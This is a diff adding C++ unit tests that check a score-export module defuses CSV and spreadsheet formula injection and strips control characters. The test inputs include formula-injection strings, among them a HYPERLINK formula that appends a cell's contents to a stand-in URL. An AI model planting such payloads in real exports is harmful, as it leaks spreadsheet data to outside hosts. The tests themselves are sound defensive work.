@@ -3,6 +3,9 @@
 #include <gtest/gtest.h>
 #include <zip.h>
 
+#include <algorithm>
+#include <cstdlib>
+
 #include "common/text/gbk.h"
 #include "common/scores/export_writers.h"
 #include "tests/console/scores/score_fixture.h"
@@ -131,6 +134,69 @@ TEST(SpreadsheetExport, NumbersAsNumbersDatesAsDatesAndNamesAsText) {
             EXPECT_EQ(xml.find("t=\""), std::string::npos) << c.ref << " is a number: " << xml;
         }
     }
+}
+
+TEST(ExportCells, FormulasLineBreaksAndControlCharactersAreWrittenHarmlessly) {
+    struct Case {
+        std::string field, text, csv, xlsx;
+    };
+    const std::string nul("a\0b", 3);
+    const Case cases[] = {
+        {"张三", "张三", "张三", "张三"},
+        {"=1+1", "=1+1", "'=1+1", "=1+1"},
+        {"+A1", "+A1", "'+A1", "+A1"},
+        {"+86", "+86", "+86", "+86"},  // a number, no formula
+        {"-x", "-x", "'-x", "-x"},
+        {"@SUM(A1)", "@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
+        {"\t=1", " =1", "'\t=1", "\t=1"},
+        {"\r=1", " =1", "'\r=1", "\r=1"},
+        {"-5", "-5", "-5", "-5"},  // a plain number stays one
+        {"0.25", "0.25", "0.25", "0.25"},
+        {"a=1", "a=1", "a=1", "a=1"},
+        {"张\r\n三\n四\r五", "张 三 四 五", "张\r\n三\n四\r五", "张\r\n三\n四\r五"},
+        {nul, "a?b", "a\xEF\xBF\xBD" "b", "a\xEF\xBF\xBD" "b"},
+        {"a\x01" "b", "a?b", "a\xEF\xBF\xBD" "b", "a\xEF\xBF\xBD" "b"},
+    };
+    for (const Case& c : cases) {
+        EXPECT_EQ(exportCell(c.field, ExportFormat::Text), c.text) << c.field;
+        EXPECT_EQ(exportCell(c.field, ExportFormat::Csv), c.csv) << c.field;
+        EXPECT_EQ(exportCell(c.field, ExportFormat::Xlsx), c.xlsx) << c.field;
+    }
+}
+
+TEST(ExportCells, EveryWriterWritesTheRule) {
+    const std::vector<ScoreRow> rows = {
+        scoreRow("=1+1", "=HYPERLINK(\"http://x\"&A2,\"点我\")", std::nullopt, 1, 2, 3, 4, 10),
+        scoreRow("2", "张\r\n三", std::nullopt, 1, 2, 3, 4, 10)};
+    const std::string csv = scoresCsv(rows);
+    EXPECT_NE(csv.find("\r\n'=1+1,\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"点我\"\")\",,1,2,3,4,10\r\n"), std::string::npos)
+        << csv;
+    EXPECT_NE(csv.find("\r\n2,\"张\r\n三\",,1,2,3,4,10\r\n"), std::string::npos) << "quoted, one record";
+    const std::string text = exportTextGbk(rows);
+    EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 3) << "the title and one line a record";
+    EXPECT_NE(text.find("2 " + gbk("张 三") + "  1 2 3 4 10\r\n"), std::string::npos);
+
+    kav::test::TempDir dir;
+    writeScoresXlsx({scoreRow("1", std::string("李\0四", 7), std::nullopt, 1, 2, 3, 4, 10)}, dir / "s.xlsx");
+    EXPECT_NE(zipEntry(dir / "s.xlsx", "xl/sharedStrings.xml").find("李\xEF\xBF\xBD四"), std::string::npos)
+        << "the NUL is marked, the name not cut";
+}
+
+// LibreOffice, when installed, opens the exported CSV with `=1+1` as text: its
+// own spreadsheet of the file has no formula and the text as written.
+TEST(ExportCells, LibreOfficeReadsAFormulaLikeNameAsText) {
+    if (std::system("soffice --version >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice is not installed";
+    kav::test::TempDir dir;
+    writeFileReplacing(dir / "s.csv", scoresCsv({scoreRow("1", "=1+1", std::nullopt, 1, 2, 3, 4, 10)}));
+    const std::string command = "cd '" + dir.path().string() + "' && HOME='" + dir.path().string() +
+                                "' soffice --headless --convert-to xlsx --infilter=CSV:44,34,76,1 s.csv >/dev/null 2>&1";
+    ASSERT_EQ(std::system(command.c_str()), 0);
+    if (!std::filesystem::exists(dir / "s.xlsx")) GTEST_SKIP() << "LibreOffice has no spreadsheet filter (no Calc)";
+    const std::string sheet = zipEntry(dir / "s.xlsx", "xl/worksheets/sheet1.xml");
+    const std::string cell = cellXml(sheet, "B2");
+    EXPECT_EQ(cell.find("<f>"), std::string::npos) << cell;
+    EXPECT_NE(cell.find("t=\"s\""), std::string::npos) << cell;
+    EXPECT_NE(zipEntry(dir / "s.xlsx", "xl/sharedStrings.xml").find("=1+1"), std::string::npos);
 }
 
 TEST(FileReplacement, ReplacesWholeAndAFailureLeavesTheOldFileAndNoTemporary) {
